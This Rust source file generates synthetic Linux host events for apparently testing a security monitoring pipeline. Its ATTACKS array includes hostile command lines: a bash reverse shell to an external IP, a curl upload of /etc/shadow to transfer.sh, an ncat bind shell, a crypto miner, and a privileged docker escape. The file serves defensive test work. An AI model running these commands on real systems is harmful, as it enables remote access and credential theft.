//! Made-up events of Linux hosts: 40 % exec, 30 % connect, 30 % file. A pool of long-running processes makes most
//! connections and file events, commands come from templates with changing parts, 0.3 % are attack-like.

use std::{net::IpAddr, sync::Arc};

use model::{
    Activity, AgentEpoch, BootNs, CgroupId, Created, Credentials, Endpoint, Event, EventId, ExeFile,
    FilePath, Flow, Namespaces, NodeId, Pid, Process, ProcessKey, ProcessOrigin, Protocol, Seq, Stdio,
    Timestamp, Truncated, Workload,
};

use fuzzing::Chance;

/// Whether strings repeat as on a real host, or each is new.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Strings {
    Repeating,
    /// Every path and command line of every event has a part of its own: no cache can help.
    Unique,
}

/// (image, command line); `#` becomes a number, `@` a word, `%` hexadecimal digits.
const COMMANDS: [(&str, &str); 64] = [
    (
        "/usr/bin/bash",
        "/bin/bash -c source /etc/profile && exec /opt/app/bin/start.sh --config /etc/app/@.yaml --port #",
    ),
    (
        "/usr/bin/dash",
        "/bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    ),
    ("/usr/bin/dash", "sh -c /usr/lib/apt/apt.systemd.daily install"),
    ("/usr/bin/dash", "/bin/sh -c wget -q -O- http://127.0.0.1:#/healthz || exit 1"),
    ("/usr/bin/curl", "curl -fsS -m 2 http://localhost:#/readyz"),
    ("/usr/bin/curl", "curl -s -o /dev/null -w %{http_code} https://api.@.example.com/v1/items/#?expand=all"),
    ("/usr/bin/wget", "wget -q https://mirror.example.org/debian/pool/main/@/@_#.deb"),
    ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only"),
    ("/usr/bin/python3.11", "python3 -m @.worker --queue @ --concurrency # --log-level info"),
    ("/usr/bin/python3.11", "python3 manage.py migrate --noinput"),
    ("/usr/bin/perl", "/usr/bin/perl -w /usr/share/debconf/frontend /usr/sbin/update-initramfs -u"),
    ("/usr/bin/node", "node /srv/@/server.js --port # --env production"),
    ("/usr/bin/git", "git fetch --all --prune origin refs/heads/@"),
    ("/usr/bin/git", "/usr/lib/git-core/git rev-list --objects --stdin --not --all --quiet --alternate-refs"),
    ("/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no -p # deploy@10.0.0.# systemctl restart @.service"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"),
    ("/usr/bin/rsync", "rsync -az --delete /srv/data/@/ backup@10.0.0.#:/srv/backup/@/"),
    ("/usr/bin/tar", "tar -czf /var/backups/@-#.tar.gz /etc /var/lib/@"),
    ("/usr/bin/gzip", "gzip -9 /var/log/@/@.log.#"),
    ("/usr/bin/cat", "cat /proc/#/status"),
    ("/usr/bin/cat", "cat /sys/fs/cgroup/memory.current"),
    ("/usr/bin/grep", "grep -E ^processor /proc/cpuinfo"),
    ("/usr/bin/grep", "grep -rn @ src/@ --include=*.rs"),
    ("/usr/bin/sed", "sed -i s/@/@/g /etc/@/@.conf"),
    ("/usr/bin/mawk", "awk {print $1}"),
    ("/usr/bin/find", "find /var/log -name *.log -mtime +# -delete"),
    ("/usr/bin/xargs", "xargs -0 -n 1 rm -f"),
    ("/usr/bin/ps", "ps -eo pid,ppid,comm,args --no-headers"),
    ("/usr/bin/ls", "ls -la /srv/@/@"),
    ("/usr/bin/cp", "cp -a /etc/@ /etc/@.bak"),
    ("/usr/bin/mv", "mv /srv/@/.tmp.% /srv/@/@.json"),
    ("/usr/bin/rm", "rm -rf /tmp/build-%"),
    ("/usr/bin/mkdir", "mkdir -p /var/lib/@/@"),
    ("/usr/bin/chmod", "chmod 644 /srv/@/@.conf"),
    ("/usr/bin/systemctl", "systemctl is-active @.service"),
    ("/usr/bin/journalctl", "journalctl -u @ --since -#m --no-pager"),
    ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("/usr/bin/dpkg", "/usr/bin/dpkg --print-foreign-architectures"),
    ("/usr/bin/apt-get", "apt-get install -y --no-install-recommends lib@-dev=#.# @"),
    ("/usr/bin/id", "id -u"),
    ("/usr/bin/hostname", "hostname -f"),
    ("/usr/bin/uname", "uname -r"),
    ("/usr/bin/psql", "psql -h 10.0.0.# -U @ -c select count(*) from @ where id > #"),
    ("/usr/lib/postgresql/15/bin/postgres", "postgres: @ @ 10.0.0.#(#) idle"),
    ("/usr/bin/redis-cli", "redis-cli -h 10.0.0.# ping"),
    ("/usr/bin/docker", "docker inspect --format {{.State.Health.Status}} @-#"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id %%%% -address /run/containerd/containerd.sock",
    ),
    (
        "/usr/sbin/runc",
        "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/%%%%/log.json --log-format json exec --process /tmp/runc-process# --detach --pid-file /run/containerd/%%.pid %%%%",
    ),
    ("/usr/bin/kubectl", "kubectl get pods -n @ -o json --field-selector spec.nodeName=node-#"),
    ("/usr/bin/x86_64-linux-gnu-gcc-12", "cc -O2 -Wall -Isrc/include -DNDEBUG -c src/@/@.c -o build/@.o"),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -imultiarch x86_64-linux-gnu -MMD build/@.d src/@/@.c -O2 -o /tmp/cc%.s",
    ),
    (
        "/usr/bin/x86_64-linux-gnu-ld.bfd",
        "/usr/bin/ld -plugin /usr/libexec/gcc/x86_64-linux-gnu/12/liblto_plugin.so -o @ @.o @.o -lc -lm",
    ),
    ("/usr/bin/make", "make -j# all"),
    (
        "/root/.cargo/bin/rustc",
        "rustc --crate-name @ --edition=2021 src/main.rs --error-format=json --emit=dep-info,link -C opt-level=3 -C metadata=%% --out-dir target/release/deps",
    ),
    ("/usr/local/go/bin/go", "go build -trimpath -ldflags=-s -w ./cmd/@"),
    ("/usr/bin/sleep", "sleep #"),
    ("/usr/bin/date", "date +%s"),
    ("/usr/bin/openssl", "openssl x509 -in /etc/ssl/certs/@.pem -noout -enddate"),
    ("/usr/bin/base64", "base64 -w 0"),
    ("/usr/bin/sudo", "sudo -n -u postgres /usr/local/bin/@-check"),
    ("/usr/bin/ip", "ip -j addr show dev eth#"),
    ("/usr/bin/ss", "ss -tlnp"),
    (
        "/usr/lib/jvm/java-17/bin/java",
        "java -Xmx#m -XX:+UseG1GC -Dspring.profiles.active=@ -jar /opt/@/@.jar --server.port=#",
    ),
    ("/usr/sbin/nginx", "nginx: worker process"),
];

const ATTACKS: [(&str, &str); 8] = [
    ("/usr/bin/bash", "bash -i >& /dev/tcp/185.12.33.#/4444 0>&1"),
    ("/usr/bin/curl", "curl -k --upload-file /etc/shadow https://transfer.sh/@"),
    ("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://pool.@.xyz:# --donate-level 1"),
    (
        "/usr/bin/python3.11",
        "python3 -c import socket,subprocess,os;s=socket.socket();import pty;pty.spawn(\"sh\")",
    ),
    ("/usr/bin/ncat", "ncat -lvp # -e /bin/sh"),
    ("/usr/bin/chmod", "chmod u+s /tmp/@"),
    ("/usr/bin/docker", "docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host"),
    ("/usr/bin/base64", "base64 --decode /dev/shm/@"),
];

const FILES: [&str; 16] = [
    "/var/log/@/@.log",
    "/var/lib/postgresql/15/main/base/#/#",
    "/tmp/tmp.%",
    "/srv/@/cache/%/%.json",
    "/home/@/project/target/release/deps/lib@-%%.rlib",
    "/home/@/.cache/pip/http/%/%/%%",
    "/var/lib/docker/overlay2/%%%%/merged/app/@.py",
    "/etc/@/@.conf",
    "/usr/share/doc/@/changelog.gz",
    "/var/cache/apt/archives/@_#_amd64.deb",
    "/var/lib/dpkg/info/@.list",
    "/run/@.pid",
    "/var/lib/kubelet/pods/%%-%/volumes/@/token",
    "/root/.bash_history",
    "/dev/null",
    "/proc/#/oom_score_adj",
];
const PORTS: [u16; 12] = [443, 443, 443, 80, 53, 5432, 6379, 8080, 3306, 9092, 22, 2379];

/// `count` events.
pub(crate) fn generate(count: usize, seed: u64, strings: Strings) -> Vec<Event> {
    let mut made = Maker { chance: Chance::new(seed), strings, number: 0 };
    let pool: Vec<_> = (0..400).map(|_| made.process()).collect();
    (0..count)
        .map(|position| {
            let parent = made.parent(&pool);
            let (process, activity) = match made.chance.below(100) {
                0..40 => {
                    let process = made.process();
                    let requested = process.exe.clone();
                    (process, Activity::Exec { requested })
                }
                40..70 => (made.actor(&pool), made.connect()),
                _ => (made.actor(&pool), made.file()),
            };
            Event {
                id: EventId {
                    node: NodeId::new("node-1"),
                    epoch: AgentEpoch(1),
                    seq: Seq(position as u64 + 1),
                },
                time: Timestamp(1_795_000_000_000_000_000 + position as i64 * 1_000_000),
                process,
                ancestors: [Arc::clone(&parent)].into(),
                parent: Some(parent),
                exposure: model::Exposure::None,
                activity,
            }
        })
        .collect()
}

struct Maker {
    chance: Chance,
    strings: Strings,
    number: u64,
}

impl Maker {
    fn actor(&mut self, pool: &[Arc<Process>]) -> Arc<Process> {
        match self.strings {
            // Few processes do most of the work.
            Strings::Repeating => {
                let most = if self.chance.percent(80) { 60 } else { pool.len() };
                Arc::clone(&pool[self.chance.below(most)])
            }
            Strings::Unique => self.process(),
        }
    }

    fn parent(&mut self, pool: &[Arc<Process>]) -> Arc<Process> {
        self.actor(pool)
    }

    fn process(&mut self) -> Arc<Process> {
        let attack = self.chance.below(1000) < 3;
        let (image, command) =
            if attack { *self.chance.pick(&ATTACKS) } else { *self.chance.pick(&COMMANDS) };
        let exe = self.fill(image);
        let command_line = self.fill(command);
        let cwd = if self.strings == Strings::Unique || self.chance.percent(20) {
            self.fill("/srv/@/@")
        } else {
            (*self.chance.pick(&["/", "/root", "/home/deploy", "/var/lib/postgresql", "/srv/app", "/tmp"]))
                .to_owned()
        };
        let uid = if self.chance.percent(45) { 0 } else { 1000 };
        let comm: String = exe.rsplit('/').next().unwrap_or("").chars().take(15).collect();
        Arc::new(Process {
            key: ProcessKey {
                pid: Pid(1000 + self.chance.below(60_000) as u32),
                start: BootNs(self.chance.next()),
            },
            parent: Some(ProcessKey { pid: Pid(1), start: BootNs(1) }),
            exe,
            exe_file: ExeFile::default(),
            args: command_line.split(' ').map(str::to_owned).collect(),
            command_line,
            args_truncated: Truncated::No,
            cwd,
            comm,
            credentials: Credentials { uid, euid: uid, ..Credentials::default() },
            namespaces: Namespaces::default(),
            tty: None,
            stdio: Stdio::default(),
            cgroup: CgroupId(7),
            workload: Arc::new(Workload::unit("app.service", "/system.slice/app.service")),
            origin: ProcessOrigin::Exec,
            exit: None,
        })
    }

    fn connect(&mut self) -> Activity {
        let addr = if self.chance.percent(70) {
            IpAddr::from([10, 0, self.chance.below(4) as u8, self.chance.below(250) as u8])
        } else {
            IpAddr::from([
                20 + self.chance.below(180) as u8,
                self.chance.below(256) as u8,
                self.chance.below(256) as u8,
                7,
            ])
        };
        let port = if self.chance.percent(95) {
            *self.chance.pick(&PORTS)
        } else {
            1024 + self.chance.below(60_000) as u16
        };
        Activity::Connect(Flow {
            protocol: Protocol::Tcp,
            local: Endpoint {
                addr: IpAddr::from([10, 0, 0, 2]),
                port: 32_768 + self.chance.below(28_000) as u16,
            },
            remote: Endpoint { addr, port },
        })
    }

    fn file(&mut self) -> Activity {
        let template = *self.chance.pick(&FILES);
        let path = self.fill(template);
        Activity::FileOpen {
            file: FilePath { path, truncated: Truncated::No },
            flags: 0o1101,
            created: if self.chance.percent(30) { Created::Yes } else { Created::No },
        }
    }

    /// Three in five commands with changing parts take them from a small set, as jobs and probes do.
    fn fill(&mut self, template: &str) -> String {
        let small = self.strings == Strings::Repeating && self.chance.percent(60);
        let mut fixed = Chance::new(self.chance.below(12) as u64 + 1);
        let mut text = String::with_capacity(template.len() + 16);
        for c in template.chars() {
            let chance = if small { &mut fixed } else { &mut self.chance };
            match c {
                '#' => text.push_str(&chance.below(60_000).to_string()),
                '@' => text.push_str(&chance.word()),
                '%' => text.push_str(&chance.hex(8)),
                c => text.push(c),
            }
        }
        if self.strings == Strings::Unique {
            // In the middle, so that starts and ends stay what they are.
            self.number += 1;
            let at = text.rfind(['/', ' ']).unwrap_or(0);
            text.insert_str(
                at,
                &format!(
                    "{}{:05}",
                    if text[at..].starts_with('/') { "/u" } else { " u" },
                    self.number % 100_000
                ),
            );
        }
        text
    }
}
